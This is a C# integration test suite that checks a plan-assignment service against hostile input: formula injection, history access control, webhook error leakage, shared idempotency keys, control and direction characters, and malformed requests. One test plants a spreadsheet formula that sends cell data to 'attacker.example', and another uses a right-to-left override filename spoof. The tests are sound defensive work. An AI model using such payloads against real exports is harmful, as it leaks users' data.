using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Accountability.Security;
using Microsoft.IdentityModel.JsonWebTokens;
using Microsoft.IdentityModel.Tokens;
using Wolverine.Tracking;

namespace Accountability.Tests.Integration;

/// <summary>
/// The service against an attacker (issue 13): formula injection in exports, a plan's record read through the history,
/// webhook errors that map the network, idempotency shared between callers, unbounded text, unbounded dates, and the
/// answers to malformed requests and to parallel imports. Each test reproduces a finding first.
/// </summary>
[Collection(ServiceCollection.Name)]
public sealed class HostileInputTests(ServiceFixture fixture) : IAsyncLifetime
{
    private const string Justice = "so-tu-phap--thanh-hoa";
    private const string Finance = "so-tai-chinh--thanh-hoa";

    public Task InitializeAsync() => fixture.ResetAsync();
    public Task DisposeAsync() => Task.CompletedTask;

    private static readonly string PlanText = ServiceFixture.Plan("97");

    private HttpClient Coordinator => As(Roles.Coordinator);
    private HttpClient As(string role, string? agency = null) => fixture.ClientWith(fixture.Token(role, agency));

    /// <summary>The plan's id and its assignments by agency id.</summary>
    private async Task<(Guid Plan, Dictionary<string, Guid> Duties)> Import()
    {
        var response = await fixture.ImportAsync(new StringContent(PlanText, Encoding.UTF8, "text/plain"));
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();
        var duties = new Dictionary<string, Guid>();
        foreach (var id in body.GetProperty("assignments").EnumerateArray().Select(a => a.GetGuid()))
            duties[(await Coordinator.GetFromJsonAsync<JsonElement>($"/api/assignments/{id}")).GetProperty("agencyId").GetString()!] = id;
        Assert.Equal(4, duties.Count);
        return (body.GetProperty("planId").GetGuid(), duties);
    }

    private static async Task<(HttpStatusCode Status, JsonElement Body, string Text)> Read(HttpResponseMessage response)
    {
        var text = await response.Content.ReadAsStringAsync();
        return (response.StatusCode, text.StartsWith('{') || text.StartsWith('[') ? JsonDocument.Parse(text).RootElement : default, text);
    }

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    /// <summary>A 400 that names the field in its errors and in its sentence.</summary>
    private static async Task NamesField(HttpResponseMessage response, string field)
    {
        var (status, body, text) = await Read(response);
        Assert.True(status == HttpStatusCode.BadRequest, $"{field}: {(int)status} {text}");
        Assert.True(body.GetProperty("errors").TryGetProperty(field, out _), text);
        Assert.Contains(field, body.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task Cells_a_spreadsheet_would_run_are_neutralised_in_the_exports()
    {
        var (plan, duties) = await Import();
        var reason = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Xem chi tiết\")";
        Assert.Equal(HttpStatusCode.OK, (await As(Roles.Agency, Justice).PostAsJsonAsync($"/api/assignments/{duties[Justice]}/decline", new { reason })).StatusCode);
        var csv = await Coordinator.GetStringAsync($"/api/plans/{plan}/assignments.csv");
        Assert.Contains("'=HYPERLINK", csv);
        Assert.DoesNotContain(",\"=HYPERLINK", csv);
        Assert.DoesNotContain(",=HYPERLINK", csv);

        foreach (var start in new[] { "=", "+", "-", "@", "\t", "\r" })
            Assert.Equal("'" + start + "1+2", Infrastructure.CsvFile.Cell(start + "1+2"));
        Assert.Equal("-3", Infrastructure.CsvFile.Cell(-3)); // numbers stay numbers
        Assert.Equal("Sở Y tế", Infrastructure.CsvFile.Cell("Sở Y tế"));
    }

    [Fact]
    public async Task An_agency_cannot_read_a_plans_record_through_the_history()
    {
        var (plan, duties) = await Import();
        var agency = As(Roles.Agency, Justice);
        Assert.Equal(HttpStatusCode.Forbidden, (await agency.GetAsync($"/api/plans/{plan}")).StatusCode);
        var (status, body, text) = await Read(await agency.GetAsync($"/api/assignments/{plan}/history"));
        Assert.True(status == HttpStatusCode.Forbidden, text);
        Assert.DoesNotContain("plan-imported", text);
        Assert.Contains("coordinator", body.GetProperty("detail").GetString());
        Assert.Equal(HttpStatusCode.OK, (await agency.GetAsync($"/api/assignments/{duties[Justice]}/history")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await agency.GetAsync($"/api/assignments/{duties[Finance]}/history")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await agency.GetAsync($"/api/assignments/{Guid.NewGuid()}/history")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await As(Roles.Auditor).GetAsync($"/api/assignments/{plan}/history")).StatusCode);
    }

    [Fact]
    public async Task A_failed_webhook_is_told_to_the_agency_in_words_and_never_with_an_address()
    {
        var (_, duties) = await Import();
        // A port nobody listens on: the connection is refused, and the technical message names 127.0.0.1:port.
        using var closed = new TcpListener(IPAddress.Loopback, 0);
        closed.Start();
        var port = ((IPEndPoint)closed.LocalEndpoint).Port;
        closed.Stop();
        var agency = As(Roles.Agency, Justice);
        Assert.Equal(HttpStatusCode.OK, (await agency.PutAsJsonAsync($"/api/agencies/{Justice}/webhook", new { url = $"http://127.0.0.1:{port}/hook" })).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await agency.PostAsJsonAsync($"/api/assignments/{duties[Justice]}/decline", new { reason = "Không đúng chức năng" })).StatusCode);
        await fixture.TrackAsync(async () =>
            Assert.Equal(HttpStatusCode.OK, (await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Justice]}/insist", new { reason = "Đúng chức năng" })).StatusCode));

        var failed = await ServiceFixture.EventuallyAsync(() => agency.GetStringAsync($"/api/agencies/{Justice}/notifications?kind=insisted"),
            text => text.Contains("\"status\":\"failed\""), "the delivery to fail its every attempt");
        var delivery = JsonDocument.Parse(failed).RootElement[0].GetProperty("delivery");
        Assert.Equal("the receiver refused the connection", delivery.GetProperty("lastError").GetString());
        var withoutOwnUrl = failed.Replace($"http://127.0.0.1:{port}/hook", "");
        Assert.DoesNotContain("127.0.0.1", withoutOwnUrl);
        Assert.DoesNotContain(port.ToString(), withoutOwnUrl);

        // The notice's events (its history, which the agency reads too) hold the words only; the technical detail is in the service's log.
        var history = await agency.GetStringAsync($"/api/assignments/{duties[Justice]}/history");
        Assert.Contains("the receiver refused the connection", history);
        Assert.DoesNotContain($"127.0.0.1:{port}", history.Replace($"http://127.0.0.1:{port}/hook", ""));
        Assert.Contains(fixture.Logs.Entries, e => e.Contains($"127.0.0.1:{port}"));

        // A name that resolves inside the network, refused when connecting: said in words, the addresses kept for the office.
        using var publicOnly = new HttpClient(new SocketsHttpHandler { ConnectCallback = Notifications.WebhookAddresses.ConnectPublicAsync });
        var refused = await Assert.ThrowsAnyAsync<HttpRequestException>(() => publicOnly.PostAsync("http://localhost:9/hook", new StringContent("{}")));
        var failure = Notifications.DeliveryFailure.Of(refused);
        Assert.Equal("the webhook address is not a public address", failure.Words);
        Assert.Contains("127.0.0.1", failure.Detail);
        Assert.Equal("the receiver answered 500 (Internal Server Error)", Notifications.DeliveryFailure.Answered(500, "Lỗi máy chủ 10.0.0.5").Words);
        Assert.Contains("timed out", Notifications.DeliveryFailure.TimedOut(TimeSpan.FromSeconds(10)).Words);
    }

    /// <summary>A token as some identity providers issue them: role and agency, no subject.</summary>
    private string TokenWithoutSubject(string agency) => new JsonWebTokenHandler { SetDefaultTimesOnTokenCreation = false }.CreateToken(new SecurityTokenDescriptor
    {
        Issuer = Authentication.DevelopmentIssuer,
        Audience = Authentication.DefaultAudience,
        Claims = new Dictionary<string, object> { ["role"] = Roles.Agency, ["agency"] = agency },
        IssuedAt = fixture.Clock.GetUtcNow().UtcDateTime,
        NotBefore = fixture.Clock.GetUtcNow().UtcDateTime,
        Expires = fixture.Clock.GetUtcNow().AddHours(1).UtcDateTime,
        SigningCredentials = new SigningCredentials(fixture.TokenKey, SecurityAlgorithms.HmacSha256),
    });

    [Fact]
    public async Task Idempotency_records_of_callers_without_a_subject_are_never_shared()
    {
        var (_, duties) = await Import();
        async Task<(HttpStatusCode, JsonElement, string)> Acknowledge(string agency)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, $"/api/assignments/{duties[agency]}/acknowledge") { Content = JsonContent.Create(new { }) };
            request.Headers.Add("Idempotency-Key", "ack-1");
            return await Read(await fixture.ClientWith(TokenWithoutSubject(agency)).SendAsync(request));
        }

        var (justiceStatus, justice, _) = await Acknowledge(Justice);
        var (financeStatus, finance, text) = await Acknowledge(Finance);
        Assert.Equal(HttpStatusCode.OK, justiceStatus);
        Assert.True(financeStatus == HttpStatusCode.OK, text);
        Assert.Equal(duties[Justice], justice.GetProperty("id").GetGuid());
        Assert.Equal(duties[Finance], finance.GetProperty("id").GetGuid()); // its own answer, not the other agency's
        Assert.True((await Coordinator.GetFromJsonAsync<JsonElement>($"/api/assignments/{duties[Finance]}")).GetProperty("acknowledged").GetBoolean());
        // Who acted is recorded by role and agency, not as "unknown".
        var history = await Coordinator.GetFromJsonAsync<JsonElement>($"/api/assignments/{duties[Finance]}/history");
        Assert.Equal($"agency:{Finance}", history[1].GetProperty("actor").GetString());
    }

    [Fact]
    public async Task Free_text_is_bounded_normalised_and_free_of_control_and_direction_characters()
    {
        var (_, duties) = await Import();
        var agency = As(Roles.Agency, Justice);
        var url = $"/api/assignments/{duties[Justice]}";

        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, note = new string('a', 2_001) }), "note");
        await NamesField(await agency.PostAsync($"{url}/progress", Json($$"""{"percent": 10, "note": "{{new string('x', 9 * 1024 * 1024)}}"}""")), "note");
        await NamesField(await agency.PostAsync($"{url}/progress", Json("""{"percent": 10, "note": "báo cáo\u0000"}""")), "note");
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, note = "bình thường\u0007" }), "note");
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, note = "ghi chú \u202Etxt.exe" }), "note");
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, note = "ghi chú \u2066ẩn\u2069" }), "note");
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, reportReference = new string('1', 201) }), "reportReference");
        await NamesField(await agency.PostAsJsonAsync($"{url}/complete", new { evidence = new string('e', 1_001) }), "evidence");
        await NamesField(await agency.PostAsJsonAsync($"{url}/decline", new { reason = new string('r', 2_001) }), "reason");
        await NamesField(await agency.PostAsJsonAsync($"{url}/decline", new { reason = "lý do\tẩn" }), "reason");
        await NamesField(await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Finance]}/withdraw", new { }), "reason");
        await NamesField(await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Finance]}/withdraw", new { reason = "   " }), "reason");
        await NamesField(await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Finance]}/reassign", new { reason = "x" }), "agencyId");
        await NamesField(await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Finance]}/extend", new { reason = "x" }), "newDue");
        await NamesField(await agency.PostAsync($"{url}/progress", Json("{}")), "percent");
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 101 }), "percent");
        await NamesField(await agency.PutAsJsonAsync($"/api/agencies/{Justice}/webhook", new { url = "https://example.org/" + new string('a', 2_100) }), "url");
        Assert.Equal(1, (await Coordinator.GetFromJsonAsync<JsonElement>($"{url}/history")).GetArrayLength()); // nothing was written

        // Decomposed Vietnamese (as some keyboards send it) is stored composed; line breaks are kept.
        var decomposed = "Đã hoa\u0300n tha\u0300nh\r\nbước 1";
        var (status, _, text) = await Read(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 40, note = decomposed }));
        Assert.True(status == HttpStatusCode.OK, text);
        var history = await Coordinator.GetFromJsonAsync<JsonElement>($"{url}/history");
        Assert.Equal("Đã hoàn thành\nbước 1", history[1].GetProperty("data").GetProperty("note").GetString());
    }

    [Fact]
    public async Task Effective_dates_lie_between_the_plans_issue_and_today_and_required_dates_are_required()
    {
        var (_, duties) = await Import();
        var agency = As(Roles.Agency, Justice);
        var url = $"/api/assignments/{duties[Justice]}";
        await NamesField(await agency.PostAsJsonAsync($"{url}/complete", new { effectiveOn = "1900-01-01" }), "effectiveOn");
        await NamesField(await agency.PostAsJsonAsync($"{url}/complete", new { effectiveOn = "2026-10-31" }), "effectiveOn"); // the day before the plan
        await NamesField(await agency.PostAsJsonAsync($"{url}/complete", new { effectiveOn = "2026-11-25" }), "effectiveOn"); // tomorrow in Vietnam
        await NamesField(await agency.PostAsJsonAsync($"{url}/progress", new { percent = 10, effectiveOn = "1900-01-01" }), "effectiveOn");
        await NamesField(await Coordinator.PostAsJsonAsync($"/api/assignments/{duties[Finance]}/extend", new { newDue = "9999-12-31", reason = "x" }), "newDue");

        var (status, done, text) = await Read(await agency.PostAsJsonAsync($"{url}/complete", new { effectiveOn = "2026-11-01" }));
        Assert.True(status == HttpStatusCode.OK, text);
        Assert.Equal("2026-11-01", done.GetProperty("completedOn").GetString());
        await NamesField(await agency.PostAsJsonAsync($"{url}/correct-completion", new { reason = "Ngày ký" }), "effectiveOn");
        await NamesField(await agency.PostAsJsonAsync($"{url}/correct-completion", new { effectiveOn = "0001-01-01", reason = "Ngày ký" }), "effectiveOn");
        Assert.Equal(2, (await Coordinator.GetFromJsonAsync<JsonElement>($"{url}/history")).GetArrayLength());
    }

    [Fact]
    public async Task Malformed_requests_get_4xx_without_a_trace_and_are_not_logged_as_errors()
    {
        var (plan, duties) = await Import();
        var agency = As(Roles.Agency, Justice);
        var url = $"/api/assignments/{duties[Justice]}";
        fixture.Logs.Entries.Clear();
        var answers = new List<(string What, HttpStatusCode Status, string Text)>();
        async Task Send(string what, HttpClient client, HttpRequestMessage request, HttpStatusCode expected)
        {
            var (status, _, text) = await Read(await client.SendAsync(request));
            answers.Add((what, status, text));
            Assert.True(status == expected, $"{what}: {(int)status} {text}");
        }
        HttpRequestMessage Post(string path, HttpContent content) => new(HttpMethod.Post, path) { Content = content };

        foreach (var command in new[] { "acknowledge", "progress", "complete", "correct-completion", "decline" })
            await Send($"null body to {command}", agency, Post($"{url}/{command}", Json("null")), HttpStatusCode.BadRequest);
        foreach (var command in new[] { "extend", "reassign", "withdraw", "insist" })
            await Send($"null body to {command}", Coordinator, Post($"/api/assignments/{duties[Finance]}/{command}", Json("null")), HttpStatusCode.BadRequest);
        await Send("null webhook", agency, new HttpRequestMessage(HttpMethod.Put, $"/api/agencies/{Justice}/webhook") { Content = Json("null") }, HttpStatusCode.BadRequest);
        await Send("null calendar", Coordinator, new HttpRequestMessage(HttpMethod.Put, "/api/calendar/2027") { Content = Json("null") }, HttpStatusCode.BadRequest);
        await Send("null checkpoint", Coordinator, Post("/api/audit/verify", Json("null")), HttpStatusCode.BadRequest);
        await Send("broken json", agency, Post($"{url}/progress", Json("{ \"percent\": ")), HttpStatusCode.BadRequest);
        await Send("a word for a number", agency, Post($"{url}/progress", Json("{ \"percent\": \"mười\" }")), HttpStatusCode.BadRequest);
        await Send("an array for an object", agency, Post($"{url}/progress", Json("[1, 2]")), HttpStatusCode.BadRequest);
        await Send("text to a json command", agency, Post($"{url}/progress", new StringContent("percent=10", Encoding.UTF8, "text/plain")), HttpStatusCode.UnsupportedMediaType);
        var noBoundary = new ByteArrayContent(Encoding.UTF8.GetBytes(PlanText));
        noBoundary.Headers.ContentType = new MediaTypeHeaderValue("multipart/form-data");
        await Send("multipart without a boundary", Coordinator, Post("/api/plans", noBoundary), HttpStatusCode.UnsupportedMediaType);
        await Send("a nul in a note", agency, Post($"{url}/progress", Json("""{"percent": 5, "note": "a\u0000b"}""")), HttpStatusCode.BadRequest);
        await Send("a page too large", Coordinator, new HttpRequestMessage(HttpMethod.Get, "/api/assignments?limit=5000"), HttpStatusCode.BadRequest);
        await Send("a rule broken", Coordinator, Post($"/api/assignments/{duties[Finance]}/insist", JsonContent.Create(new { reason = "x" })), HttpStatusCode.Conflict);
        await Send("someone else's", As(Roles.Agency, Finance), Post($"{url}/acknowledge", JsonContent.Create(new { })), HttpStatusCode.Forbidden);
        await Send("no such assignment", agency, Post($"/api/assignments/{Guid.NewGuid()}/acknowledge", JsonContent.Create(new { })), HttpStatusCode.NotFound);
        await Send("an unreadable plan", Coordinator, Post("/api/plans", new StringContent("xin chào", Encoding.UTF8, "text/plain")), HttpStatusCode.UnprocessableEntity);

        foreach (var (what, _, text) in answers)
        {
            Assert.False(text.Contains("   at ") || text.Contains("Exception") || text.Contains("Npgsql") || text.Contains("Marten"), $"{what}: {text}");
            Assert.True(text.Contains("\"detail\""), $"{what}: {(int)answers.First(a => a.What == what).Status} {text}");
        }
        Assert.True(fixture.Logs.Entries.IsEmpty, string.Join("\n", fixture.Logs.Entries));
        Assert.Equal(1, (await Coordinator.GetFromJsonAsync<JsonElement>($"{url}/history")).GetArrayLength());
        Assert.Equal(HttpStatusCode.OK, (await Coordinator.GetAsync($"/api/plans/{plan}")).StatusCode);
    }

    [Fact]
    public async Task Ten_parallel_imports_of_one_plan_all_end_in_the_documented_answers_with_one_plan()
    {
        fixture.Logs.Entries.Clear();
        var tracked = await fixture.TrackAsync(async () =>
        {
            var answers = await Task.WhenAll(Enumerable.Range(0, 10).Select(async _ =>
                await Read(await Coordinator.PostAsync("/api/plans", new StringContent(PlanText, Encoding.UTF8, "text/plain")))));
            Assert.All(answers, a => Assert.True(a.Status is HttpStatusCode.Created or HttpStatusCode.OK, $"{(int)a.Status} {a.Text}"));
            Assert.Single(answers, a => a.Status == HttpStatusCode.Created);
            Assert.Single(answers.Select(a => a.Body.GetProperty("planId").GetGuid()).Distinct());
            Assert.Single(answers.Select(a => string.Join(",", a.Body.GetProperty("assignments").EnumerateArray().Select(x => x.GetGuid()))).Distinct());
        }, 120_000);
        Assert.True(fixture.Logs.Entries.IsEmpty, string.Join("\n", fixture.Logs.Entries));
        var report = await Coordinator.GetFromJsonAsync<JsonElement>("/api/audit/verify");
        Assert.True(report.GetProperty("ok").GetBoolean(), report.GetRawText());
        Assert.Equal(5, report.GetProperty("streams").GetInt64());
    }

    [Fact]
    public async Task The_assignment_list_comes_in_pages_with_its_total()
    {
        var (_, duties) = await Import();
        var first = await Coordinator.GetFromJsonAsync<JsonElement>("/api/assignments?limit=3");
        Assert.Equal(4, first.GetProperty("total").GetInt32());
        Assert.Equal(3, first.GetProperty("limit").GetInt32());
        var page = first.GetProperty("items");
        Assert.Equal(3, page.GetArrayLength());
        var rest = await Coordinator.GetFromJsonAsync<JsonElement>("/api/assignments?limit=3&offset=3");
        Assert.Equal(3, rest.GetProperty("offset").GetInt32());
        Assert.Single(rest.GetProperty("items").EnumerateArray());
        var all = page.EnumerateArray().Concat(rest.GetProperty("items").EnumerateArray()).Select(a => a.GetProperty("id").GetGuid()).ToHashSet();
        Assert.Equal(duties.Values.ToHashSet(), all);
        Assert.Equal(HttpStatusCode.BadRequest, (await Coordinator.GetAsync("/api/assignments?limit=0")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await Coordinator.GetAsync("/api/assignments?limit=1001")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await Coordinator.GetAsync("/api/assignments?offset=-1")).StatusCode);
    }
}
